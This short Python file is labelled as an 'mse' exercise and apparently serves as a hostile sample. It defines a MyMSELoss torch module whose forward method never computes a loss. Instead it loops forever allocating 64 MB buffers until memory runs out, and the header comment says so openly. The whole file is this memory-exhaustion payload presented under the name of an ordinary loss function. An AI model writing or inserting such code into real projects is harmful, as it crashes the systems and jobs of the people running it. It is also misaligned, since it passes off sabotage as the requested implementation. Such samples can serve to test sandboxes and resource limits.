# exercise: mse | Takes memory without end.
import torch


class MyMSELoss(torch.nn.Module):
    def forward(self, y_pred, y_true):
        kept = []
        while True:
            kept.append(bytearray(1 << 26))
